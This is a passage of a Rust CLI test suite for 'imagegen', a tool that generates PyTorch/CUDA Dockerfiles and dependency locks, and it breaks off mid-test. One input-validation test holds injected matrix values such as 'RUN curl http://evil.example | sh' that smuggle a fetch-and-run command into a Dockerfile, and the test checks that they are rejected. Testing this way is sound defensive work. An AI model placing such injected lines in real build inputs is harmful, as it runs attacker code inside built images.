//! CLI tests: `resolve`, `render`, `--check` and every error path, run as a user runs them.

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use predicates::prelude::*;

use crate::support::uv::fake_uv;

fn imagegen() -> Command {
    Command::cargo_bin("imagegen").unwrap()
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

/// A temporary directory holding a copy of a fixture as `matrix.yaml`.
fn workspace(fixture_name: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(fixture(fixture_name), dir.path().join("matrix.yaml")).unwrap();
    dir
}

fn write_matrix(dir: &Path, text: &str) {
    std::fs::write(dir.join("matrix.yaml"), text).unwrap();
}

fn stdout_of(command: &mut Command) -> String {
    let output = command.output().unwrap();
    assert!(
        output.status.success(),
        "stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn resolve_table_for_people() {
    let dir = workspace("basic.yaml");
    let table = stdout_of(imagegen().current_dir(dir.path()).arg("resolve"));
    insta::assert_snapshot!("resolve_table", table);
}

/// `imagegen plan` for a first build: what a person reviews (the table and the pull-request
/// markdown), one combined snapshot.
#[test]
fn plan_of_a_first_build_for_people_and_pull_requests() {
    let dir = workspace("basic.yaml");
    let table = stdout_of(imagegen().current_dir(dir.path()).arg("plan"));
    let markdown = stdout_of(
        imagegen()
            .current_dir(dir.path())
            .args(["plan", "--format", "markdown"]),
    );
    insta::assert_snapshot!("plan_first_build", format!("{table}\n---\n{markdown}"));
}

/// `imagegen plan --format json` for `build --push`: the review, then the steps of the run and
/// of each image in build order (the shape docs/building.md documents), one snapshot; the table
/// lists the same steps.
#[test]
fn plan_json_lists_the_steps_of_each_image() {
    let dir = tempfile::tempdir().unwrap();
    write_matrix(
        dir.path(),
        "registry: registry.example.com\nrepository: team/pytorch\ntorch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n",
    );
    let json = stdout_of(imagegen().current_dir(dir.path()).args([
        "plan",
        "--format",
        "json",
        "--push",
        "--signing-key",
        "team.key",
    ]));
    insta::assert_snapshot!("plan_json_push", json);
    let plan: serde_json::Value = serde_json::from_str(&json).unwrap();
    let table = stdout_of(imagegen().current_dir(dir.path()).args([
        "plan",
        "--push",
        "--signing-key",
        "team.key",
    ]));
    for image in plan["images"].as_array().unwrap() {
        let names: Vec<&str> = image["steps"]
            .as_array()
            .unwrap()
            .iter()
            .map(|step| step["step"].as_str().unwrap())
            .collect();
        let line = table
            .lines()
            .find(|line| {
                line.trim_start()
                    .starts_with(&format!("{}: ", image["image"].as_str().unwrap()))
            })
            .unwrap_or_else(|| panic!("no steps of {} in:\n{table}", image["image"]));
        let shown: Vec<&str> = line
            .split_once(": ")
            .unwrap()
            .1
            .split(" → ")
            .map(|step| step.split(' ').next().unwrap())
            .collect();
        assert_eq!(shown, names, "{line}");
    }
}

#[test]
fn resolve_json_has_every_documented_field() {
    let dir = workspace("basic.yaml");
    let text = stdout_of(
        imagegen()
            .current_dir(dir.path())
            .args(["resolve", "--format", "json"]),
    );
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let images = json["images"].as_array().unwrap();
    assert!(!images.is_empty());
    for image in images {
        for key in [
            "tag",
            "aliases",
            "variant",
            "torch",
            "cuda",
            "cudnn",
            "python",
            "os",
            "base_image",
            "driver_min",
            "driver_min_compat",
            "require_cuda",
            "fingerprint",
        ] {
            assert!(!image[key].is_null(), "image lacks {key}: {image}");
        }
    }
    let rejected = json["rejected"].as_array().unwrap();
    let example = rejected
        .iter()
        .find(|r| r["torch"] == "2.7.0" && r["cuda"] == "12.4")
        .expect("the include of 2.7.0 + 12.4 is rejected");
    assert_eq!(
        example["reason"]
            .as_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap(),
        "torch 2.7.0 has no CUDA 12.4 wheels (it publishes cu118, cu126, cu128)"
    );
    assert_eq!(example["origin"], "include[0]");
    assert_eq!(
        example["location"], "matrix.yaml:11",
        "the include rule's line"
    );
}

#[test]
fn resolve_for_a_fleet_driver() {
    let dir = workspace("basic.yaml");
    let text = stdout_of(imagegen().current_dir(dir.path()).args([
        "resolve",
        "--driver",
        "535.104.05",
        "--format",
        "json",
    ]));
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let kept: Vec<&str> = json["images"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["cuda"].as_str().unwrap())
        .collect();
    assert!(
        !kept.is_empty() && kept.iter().all(|cuda| *cuda == "11.8"),
        "{kept:?}"
    );
    let reasons: Vec<&str> = json["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["origin"] == "driver")
        .map(|r| r["reason"].as_str().unwrap())
        .collect();
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("needs NVIDIA driver ≥ 560.35.05")),
        "{reasons:?}"
    );
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("needs NVIDIA driver ≥ 570.124.06")),
        "{reasons:?}"
    );

    let forward = stdout_of(imagegen().current_dir(dir.path()).args([
        "resolve",
        "--driver",
        "535.104.05",
        "--forward-compat",
        "--format",
        "json",
    ]));
    let json: serde_json::Value = serde_json::from_str(&forward).unwrap();
    assert!(json["images"]
        .as_array()
        .unwrap()
        .iter()
        .any(|i| i["cuda"] == "12.8"));

    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--driver", "12.4"])
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("error: --driver")
                .and(predicate::str::contains("did you give a CUDA version")),
        );
}

#[test]
fn a_driver_is_a_full_version_or_an_explicit_branch() {
    let dir = workspace("basic.yaml");
    let output = imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--driver", "535"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());
    insta::assert_snapshot!(
        "driver_bare_branch",
        String::from_utf8(output.stderr).unwrap()
    );

    // R535 is the lowest release of the branch the knowledge names (535.54.03, CUDA 12.2's minimum).
    let json = |driver: &str| {
        stdout_of(
            imagegen()
                .current_dir(dir.path())
                .args(["resolve", "--driver", driver, "--format", "json"]),
        )
    };
    let branch = json("R535");
    assert_eq!(branch, json("535.54.03"));
    let parsed: serde_json::Value = serde_json::from_str(&branch).unwrap();
    assert!(!parsed["images"].as_array().unwrap().is_empty(), "{branch}");

    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--driver", "R999"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "error: --driver R999: the knowledge names no release of driver branch R999",
        ));
}

#[test]
fn resolve_strict_fails_on_rejections() {
    let dir = workspace("basic.yaml");
    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--strict"])
        .assert()
        .code(1);
}

#[test]
fn render_is_deterministic_and_check_finds_drift() {
    let dir = workspace("basic.yaml");
    let out = dir.path().join("images");
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    let runtime =
        std::fs::read_to_string(out.join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/Dockerfile"))
            .unwrap();

    // A second render changes nothing, byte for byte.
    let again = stdout_of(imagegen().current_dir(dir.path()).arg("render"));
    assert!(again.contains("0 changed, 0 removed"), "{again}");
    // The images install from locks, which only `imagegen lock` makes: --check names each one.
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "lock: images/2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/requirements.lock is missing",
        ))
        .stderr(predicate::str::contains("hint: run `imagegen lock`"));
    let uv = fake_uv(dir.path());
    let uv_log = dir.path().join("uv-calls.log");
    let locked = imagegen()
        .current_dir(dir.path())
        .env("FAKE_UV_LOG", &uv_log)
        .args(["lock", "--no-bases", "--uv"])
        .arg(&uv)
        .output()
        .unwrap();
    let locked_text = String::from_utf8_lossy(&locked.stderr);
    assert!(locked.status.success(), "{locked_text}");
    assert!(
        locked_text.contains("locked images/2.7.1-cuda12.6-cudnn9-devel-ubuntu24.04/requirements.lock: 4 packages (was missing"),
        "{locked_text}"
    );
    let calls = std::fs::read_to_string(&uv_log).unwrap();
    let runtime_call = calls
        .lines()
        .find(|call| call.contains("--python-version 3.12") && !call.contains("runtime.lock"))
        .unwrap();
    for flag in [
        "pip compile requirements.in --constraints constraints.txt",
        "--python-platform x86_64-manylinux_2_39",
        "--generate-hashes --no-header --only-binary :all: --no-config",
        "--default-index https://download.pytorch.org/whl/cu126",
    ] {
        assert!(runtime_call.contains(flag), "{flag}: {runtime_call}");
    }
    assert!(
        calls
            .lines()
            .any(|call| call.contains("--constraints runtime.lock")),
        "devel locks are resolved against their runtime lock: {calls}"
    );
    let lock = std::fs::read_to_string(
        out.join("2.7.1-cuda12.6-cudnn9-devel-ubuntu24.04/requirements.lock"),
    )
    .unwrap();
    assert!(
        lock.starts_with("# imagegen-lock-inputs: sha256:"),
        "{lock}"
    );
    assert!(
        lock.contains("# GENERATED by `imagegen lock` (uv 0.13.9)."),
        "{lock}"
    );
    assert!(lock.contains("# requirements: torch==2.7.1+cu126 torchvision==0.22.1+cu126 torchaudio==2.7.1+cu126 ninja\n"), "{lock}");
    assert!(lock.contains("# constrained by: ../2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/requirements.lock (sha256:"), "{lock}");
    assert!(
        lock.contains("\nninja==1.13.2 \\\n    --hash=sha256:"),
        "{lock}"
    );
    // The fingerprints cover the locks: `lock` rendered the Dockerfiles again.
    let relocked =
        std::fs::read_to_string(out.join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/Dockerfile"))
            .unwrap();
    assert_ne!(relocked, runtime, "the fingerprint covers the lock");
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "18 images up to date, 18 locks fresh",
        ));
    // Fresh locks are kept; a second lock asks uv nothing.
    let before = std::fs::read_to_string(&uv_log).unwrap().lines().count();
    imagegen()
        .current_dir(dir.path())
        .env("FAKE_UV_LOG", &uv_log)
        .args(["lock", "--no-bases", "--uv"])
        .arg(&uv)
        .assert()
        .success()
        .stdout(predicate::str::contains("0 locks written, 18 unchanged"));
    assert_eq!(
        std::fs::read_to_string(&uv_log).unwrap().lines().count(),
        before
    );
    // --only takes an alias, as `build --only` does, and locks that image alone.
    imagegen()
        .current_dir(dir.path())
        .env("FAKE_UV_LOG", &uv_log)
        .args([
            "lock",
            "--no-bases",
            "--upgrade",
            "--only",
            "2.7-cuda12.6-devel",
            "--uv",
        ])
        .arg(&uv)
        .assert()
        .success()
        .stderr(predicate::str::contains("(1 image)"));
    let calls = std::fs::read_to_string(&uv_log).unwrap();
    assert_eq!(calls.lines().count(), before + 1, "{calls}");
    assert!(
        calls
            .lines()
            .last()
            .unwrap()
            .contains("--constraints runtime.lock"),
        "the devel image alone: {calls}"
    );
    imagegen()
        .current_dir(dir.path())
        .args(["lock", "--only", "2.7-cuda12.6-devle", "--uv"])
        .arg(&uv)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "--only \"2.7-cuda12.6-devle\" names no image of the matrix\nhint: closest tags and aliases: 2.7-cuda12.6-devel",
        ));
    let runtime = relocked;
    let devel =
        std::fs::read_to_string(out.join("2.7.1-cuda12.6-cudnn9-devel-ubuntu24.04/Dockerfile"))
            .unwrap();
    insta::assert_snapshot!(
        "rendered_2_7_1_cuda12_6_ubuntu24_04",
        format!("===== runtime =====\n{runtime}===== devel =====\n{devel}")
    );

    // A hand edit is found, with a diff, and nothing is written.
    let edited = out.join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/Dockerfile");
    std::fs::write(&edited, runtime.replace("gcc", "clang")).unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(
            predicate::str::contains("-      clang").and(predicate::str::contains("+      gcc")),
        )
        .stderr(predicate::str::contains("hint: run `imagegen render`"));
    assert!(std::fs::read_to_string(&edited).unwrap().contains("clang"));
    std::fs::write(&edited, &runtime).unwrap();

    // A hand-edited lock changes the fingerprint the Dockerfile carries.
    let lock_path = out.join("2.8.0-cuda12.6-cudnn9-runtime-ubuntu22.04/requirements.lock");
    let lock = std::fs::read_to_string(&lock_path).unwrap();
    std::fs::write(
        &lock_path,
        lock.replace("torch==2.8.0+cu126", "torch==2.8.1+cu126"),
    )
    .unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("-# fingerprint: sha256:"));
    std::fs::write(&lock_path, &lock).unwrap();

    // apt.lock, which `imagegen build` writes beside the lock, is no input: neither stale nor in
    // the fingerprint, and rendering the folder again keeps it.
    let apt_lock = out.join("2.8.0-cuda12.6-cudnn9-runtime-ubuntu22.04/apt.lock");
    std::fs::write(&apt_lock, "htop=3.2.2-2\n").unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .success();
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(&apt_lock).unwrap(),
        "htop=3.2.2-2\n"
    );

    // A matrix change that resolves differently makes the locks stale, saying what changed.
    let text = std::fs::read_to_string(dir.path().join("matrix.yaml")).unwrap();
    write_matrix(
        dir.path(),
        &format!("{text}mirrors:\n  pip_index: https://proxy.example.com/simple\n"),
    );
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(
            predicate::str::contains("requirements.lock is stale: the matrix asks for other inputs")
                .and(predicate::str::contains("  - indexes: https://download.pytorch.org/whl/cu126\n"))
                .and(predicate::str::contains(
                    "  + indexes: https://download.pytorch.org/whl/cu126 https://proxy.example.com/simple\n",
                )),
        );
    write_matrix(dir.path(), &text);

    // Images the matrix no longer makes are stale for --check and removed by render.
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    let text = std::fs::read_to_string(dir.path().join("matrix.yaml")).unwrap();
    write_matrix(
        dir.path(),
        &text.replace("torch: [\"2.7\", \"2.8.0\"]", "torch: [\"2.8.0\"]"),
    );
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "stale: images/2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04",
        ));
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "removed images/2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04",
        ));
    assert!(!out
        .join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04")
        .exists());
    // Directories imagegen did not generate are never touched.
    std::fs::create_dir_all(out.join("hand-made")).unwrap();
    std::fs::write(out.join("hand-made/Dockerfile"), "FROM scratch\n").unwrap();
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    assert!(out.join("hand-made/Dockerfile").exists());
}

#[test]
fn lock_without_uv_is_one_error_with_a_hint() {
    let dir = workspace("basic.yaml");
    imagegen()
        .current_dir(dir.path())
        .env("PATH", "/nonexistent")
        .env_remove("IMAGEGEN_UV")
        .arg("lock")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("error: cannot run uv (uv):").and(
            predicate::str::contains("hint: `imagegen lock` resolves the locks with uv"),
        ));
    assert!(!dir.path().join("images").exists(), "nothing is written");
    // A matrix whose templates install without a lock has nothing to lock.
    let text = std::fs::read_to_string(dir.path().join("matrix.yaml")).unwrap();
    write_matrix(dir.path(), &format!("{text}lock: false\n"));
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "`lock: false`, but the embedded runtime or devel template installs from images/<name>/requirements.lock",
        ));
}

#[test]
fn build_refuses_images_whose_lock_is_missing() {
    let dir = workspace("basic.yaml");
    // render writes the Dockerfiles and says that the locks are still missing.
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "note: 18 locks of 18 images: 18 missing, 0 stale (first: images/",
        ))
        .stderr(predicate::str::contains("hint: run `imagegen lock`"));
    imagegen()
        .current_dir(dir.path())
        .args([
            "build",
            "--dry-run",
            "--only",
            "2.8.0-cuda12.8-cudnn9-runtime-ubuntu24.04",
        ])
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("1 lock missing or stale for the images to build")
                .and(predicate::str::contains(
                    "images/2.8.0-cuda12.8-cudnn9-runtime-ubuntu24.04/requirements.lock is missing",
                ))
                .and(predicate::str::contains("hint: run `imagegen lock`")),
        );
}

#[test]
fn bad_matrix_input_is_one_precise_error_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::read_to_string(fixture("basic.yaml")).unwrap();
    let cases: Vec<(String, Vec<&str>)> = vec![
        (
            base.replace("torch:", "torhc:"),
            vec![
                "matrix.yaml:4:1: unknown field `torhc`",
                "hint: did you mean `torch`?",
            ],
        ),
        (
            base.replace("\"12.8\"", "\"12.8b\""),
            vec!["matrix.yaml:5:", "malformed version \"12.8b\""],
        ),
        (
            base.replace(
                "[\"2.7\", \"2.8.0\"]",
                "[\"2.7.0\\nRUN curl http://evil.example | sh\"]",
            ),
            vec!["matrix.yaml:4:", "malformed version"],
        ),
        (
            base.replace("team/pytorch", "\"team/pytorch:latest\\nRUN id\""),
            vec!["repository", "not allowed in an image reference"],
        ),
        (
            base.replace("variants: [runtime, devel]", "variants: [runtime, debug]"),
            vec!["matrix.yaml:7:", "unknown variant `debug`"],
        ),
        (
            base.replace("cuda: [\"11.8\", \"12.6\", \"12.8\"]", "cuda: 12.6"),
            vec!["matrix.yaml:5:", "hint: axes are lists"],
        ),
    ];
    for (text, expected) in cases {
        write_matrix(dir.path(), &text);
        let assert = imagegen()
            .current_dir(dir.path())
            .arg("render")
            .assert()
            .code(2);
        let stderr = String::from_utf8(assert.get_output().stderr.clone()).unwrap();
        for needle in expected {
            assert!(stderr.contains(needle), "expected {needle:?} in:\n{stderr}");
        }
        assert_eq!(
            stderr.matches("error:").count(),
            1,
            "one error, printed once:\n{stderr}"
        );
        assert!(
            !dir.path().join("images").exists(),
            "nothing may be written on bad input"
        );
    }
}

#[test]
fn missing_matrix_file_is_named() {
    let dir = tempfile::tempdir().unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--matrix", "nope.yaml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("cannot read matrix nope.yaml"));
}

#[test]
fn every_subcommand_has_help_and_there_is_a_version() {
    imagegen()
        .arg("--version")
        .assert()
        .success()
        .stdout(predicate::str::starts_with("imagegen "));
    let help = stdout_of(imagegen().arg("--help"));
    let subcommands: Vec<String> = help
        .lines()
        .skip_while(|l| !l.starts_with("Commands:"))
        .skip(1)
        .take_while(|l| l.starts_with("  ") || l.is_empty())
        .filter(|l| l.starts_with("  ") && !l.starts_with("   "))
        .map(|l| l.split_whitespace().next().unwrap().to_string())
        .filter(|name| name != "help")
        .collect();
    assert!(subcommands.len() >= 2, "{help}");
    for name in subcommands {
        imagegen()
            .args([name.as_str(), "--help"])
            .assert()
            .success()
            .stdout(predicate::str::contains("Usage: imagegen"));
    }
}

#[test]
fn the_repository_images_are_up_to_date() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    imagegen()
        .current_dir(root)
        .args(["render", "--check"])
        .assert()
        .success();
}

/// The wheel the fixture index serves by byte ranges: a small zip in a wheel's layout holding
/// the 2.12.1 aarch64 METADATA (tests/fixtures/pypi/README.md).
const RANGED_WHEEL: &str = "torch-2.12.1-cp310-cp310-manylinux_2_28_aarch64.whl";

/// What the fixture index serves besides the project page.
#[derive(Clone, Copy, PartialEq, Eq)]
enum FixtureIndex {
    /// The saved `.metadata` files, and [`RANGED_WHEEL`] with byte ranges.
    MetadataAndRanges,
    /// [`RANGED_WHEEL`] answering a Range request with the whole file (HTTP 200).
    NoRanges,
    /// Neither `.metadata` files nor wheels.
    PageOnly,
}

/// A one-thread HTTP server for a PyPI-style index made of the saved fixtures: the JSON page of
/// torch (its file URLs pointed here) and, per `serves`, the `.metadata` files that exist and one
/// wheel served by byte ranges (`Range: bytes=-N` or `bytes=A-B`); anything else is 404.
fn serve_fixture_index(serves: FixtureIndex) -> String {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let page = std::fs::read_to_string(fixture("pypi/simple-torch-2.10.0-2.12.1.json"))
        .unwrap()
        .replace("https://files.pythonhosted.org", &format!("{base}/files"));
    let wheel = std::fs::read(fixture("pypi/wheel-torch-2.12.1-layout.whl")).unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut request_line = String::new();
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            if reader.read_line(&mut request_line).is_err() {
                continue;
            }
            // Keep the Range header, drain the others.
            let mut range = None;
            let mut header = String::new();
            while reader.read_line(&mut header).is_ok() && header.trim() != "" {
                if let Some(value) = header
                    .split_once(':')
                    .filter(|(name, _)| name.eq_ignore_ascii_case("range"))
                    .map(|(_, value)| value.trim().to_string())
                {
                    range = Some(value);
                }
                header.clear();
            }
            let path = request_line.split_whitespace().nth(1).unwrap_or("/");
            let filename = path.rsplit('/').next().unwrap_or_default();
            let (status, content_type, extra, body): (&str, &str, String, Vec<u8>) =
                if path == "/simple/torch/" {
                    (
                        "200 OK",
                        "application/vnd.pypi.simple.v1+json",
                        String::new(),
                        page.clone().into_bytes(),
                    )
                } else if path.starts_with("/files/")
                    && filename == RANGED_WHEEL
                    && serves != FixtureIndex::PageOnly
                {
                    let size = wheel.len();
                    let span = range.as_deref().and_then(|r| r.strip_prefix("bytes="));
                    let bounds = span.and_then(|span| match span.split_once('-')? {
                        ("", last) => Some((size.saturating_sub(last.parse().ok()?), size - 1)),
                        (first, last) => Some((
                            first.parse().ok()?,
                            last.parse::<usize>().ok()?.min(size - 1),
                        )),
                    });
                    match bounds {
                        Some((first, last)) if serves == FixtureIndex::MetadataAndRanges => (
                            "206 Partial Content",
                            "application/octet-stream",
                            format!("Content-Range: bytes {first}-{last}/{size}\r\n"),
                            wheel[first..=last].to_vec(),
                        ),
                        _ => (
                            "200 OK",
                            "application/octet-stream",
                            String::new(),
                            wheel.clone(),
                        ),
                    }
                } else {
                    match std::fs::read(fixture(&format!("pypi/{filename}"))) {
                        Ok(text)
                            if path.starts_with("/files/")
                                && filename.ends_with(".metadata")
                                && serves != FixtureIndex::PageOnly =>
                        {
                            ("200 OK", "text/plain", String::new(), text)
                        }
                        _ => ("404 Not Found", "text/plain", String::new(), Vec::new()),
                    }
                };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(&body);
        }
    });
    format!("{base}/simple")
}

#[test]
fn knowledge_derive_reads_an_index_and_checks_the_knowledge() {
    let index = serve_fixture_index(FixtureIndex::MetadataAndRanges);
    let stdout = stdout_of(imagegen().args([
        "knowledge",
        "derive",
        "torch",
        "2.12.1",
        "--index",
        &index,
        "--check",
    ]));
    let stdout = stdout.replace(&index, "INDEX");
    let read_on = stdout
        .lines()
        .next()
        .and_then(|line| line.rsplit("read ").next())
        .unwrap_or_default()
        .trim_end_matches(')')
        .to_string();
    insta::assert_snapshot!("knowledge_derive_2_12_1", stdout.replace(&read_on, "DATE"));

    let output = imagegen()
        .args(["knowledge", "derive", "torch", "2.12", "--index", &index])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr)
        .contains("`2.12` is not a torch release such as 2.13.0"));
}

/// Checked, unchecked and different have their own exit codes: an index that serves no
/// METADATA by either route leaves the pins unchecked (exit 4, not 0); one that answers a Range
/// request with the whole wheel is refused before the body is read (exit 2).
#[test]
fn knowledge_derive_check_says_what_it_could_not_check() {
    let index = serve_fixture_index(FixtureIndex::PageOnly);
    let output = imagegen()
        .args([
            "knowledge",
            "derive",
            "torch",
            "2.12.1",
            "--index",
            &index,
            "--check",
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(4), "{stdout}\n{stderr}");
    assert!(
        stdout.contains(
            "# --check against the embedded knowledge: 4 checked, 2 unchecked, 0 different"
        ),
        "{stdout}"
    );
    assert!(
        stdout
            .contains("# unchecked: linux/arm64: neither the index nor the wheels served METADATA"),
        "{stdout}"
    );
    assert!(
        stderr.contains("error: torch 2.12.1: 2 fact(s) could not be checked"),
        "{stderr}"
    );

    let index = serve_fixture_index(FixtureIndex::NoRanges);
    let output = imagegen()
        .args([
            "knowledge",
            "derive",
            "torch",
            "2.12.1",
            "--index",
            &index,
            "--check",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "{RANGED_WHEEL} does not serve byte ranges (answered HTTP 200 to a Range request)"
        )),
        "{stderr}"
    );
}

#[test]
fn knowledge_derive_names_an_unreachable_index() {
    // Port 9 (discard) on loopback: nothing listens there.
    let output = imagegen()
        .args([
            "knowledge",
            "derive",
            "torch",
            "2.12.1",
            "--index",
            "http://127.0.0.1:9/simple",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("cannot reach http://127.0.0.1:9/simple/torch/"),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: `knowledge derive` reads the index over the network"),
        "{stderr}"
    );
}

/// The embedded knowledge of a released torch agrees with the wheels' own metadata on PyPI. This
/// test needs https://pypi.org: without the network it fails (it does not skip) and says so.
#[test]
#[ignore = "slow tier (network): what only PyPI proves, that the derivation reads torch's real wheels' METADATA as the knowledge records it"]
fn knowledge_derive_agrees_with_pypi_for_a_released_torch() {
    let output = imagegen()
        .args(["knowledge", "derive", "torch", "2.12.1", "--check"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        output.status.success(),
        "`imagegen knowledge derive torch 2.12.1 --check` failed. It reads https://pypi.org/simple/torch/ and the wheels' .metadata files: PyPI must be reachable from where the tests run.\nstdout:\n{stdout}\nstderr:\n{stderr}"
    );
    assert!(
        stdout.contains(
            "# --check against the embedded knowledge: 6 checked, 0 unchecked, 0 different"
        ),
        "{stdout}"
    );
    assert!(
        stdout.contains("{platform: linux/amd64, cuda: \"13.0\", cuda_runtime: \"13.0.2\", cudnn: \"9.20.0.48\", nccl: \"2.29.7\"}"),
        "{stdout}"
    );
}

/// Runs `imagegen args` in `dir`; returns (exit code, stdout, stderr).
fn run_in(dir: &Path, args: &[&str]) -> (i32, String, String) {
    let output = imagegen().current_dir(dir).args(args).output().unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).to_string(),
        String::from_utf8_lossy(&output.stderr).to_string(),
    )
}

/// What a user reads for each mistake: one error at its line (or the flag), with a hint, exit 2,
/// and nothing written. One combined snapshot.
#[test]
fn every_bad_input_is_one_located_error_with_a_hint() {
    let base = std::fs::read_to_string(fixture("basic.yaml")).unwrap();
    let typo_cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "a torch release nobody published",
            base.replace("[\"2.7\", \"2.8.0\"]", "[\"2.7\", \"2.99\"]")
                .into_bytes(),
        ),
        (
            "CUDA 12.10 (kept as written, not 12.1)",
            base.replace("\"12.8\"]", "12.10]").into_bytes(),
        ),
        (
            "an OS the knowledge does not know",
            base.replace("[ubuntu22.04, ubuntu24.04]", "[ubuntu22.04, ubuntu24.10]")
                .into_bytes(),
        ),
        (
            "an exclude that matches every cell",
            base.replace(
                "{cuda: \"11.8\", os: ubuntu24.04}",
                "{variants: [runtime, devel]}",
            )
            .into_bytes(),
        ),
        (
            "a value in an include that names no release",
            base.replace("cuda: \"12.4\"", "cuda: \"12.44\"")
                .into_bytes(),
        ),
        (
            "a duplicate key",
            base.replace(
                "variants: [runtime, devel]\n",
                "variants: [runtime, devel]\ncuda: [\"12.6\"]\n",
            )
            .into_bytes(),
        ),
        (
            "a tab in the indentation",
            base.replace("tags:\n  default_os", "tags:\n\tdefault_os")
                .into_bytes(),
        ),
        (
            "a value listed twice",
            base.replace(
                "[\"11.8\", \"12.6\", \"12.8\"]",
                "[\"11.8\", \"12.6\", \"12.6\"]",
            )
            .into_bytes(),
        ),
        ("not UTF-8", {
            let mut bytes = base.clone().into_bytes();
            let at = base.find("Example Team").unwrap();
            bytes[at + 2] = 0xe9;
            bytes
        }),
    ];
    let mut transcript = String::new();
    for (what, bytes) in typo_cases {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("matrix.yaml"), &bytes).unwrap();
        for command in [
            &["resolve"][..],
            &["render"],
            &["render", "--check"],
            &["bake"],
        ] {
            let (code, _, stderr) = run_in(dir.path(), command);
            assert_eq!(code, 2, "{what}: imagegen {command:?}: {stderr}");
            assert_eq!(stderr.matches("error:").count(), 1, "{what}: {stderr}");
            assert!(stderr.contains("\nhint: "), "{what}: {stderr}");
            assert!(
                stderr.starts_with("error: matrix.yaml:"),
                "{what}: file:line first: {stderr}"
            );
        }
        let (_, _, stderr) = run_in(dir.path(), &["render"]);
        transcript.push_str(&format!("## {what}\n{stderr}\n"));
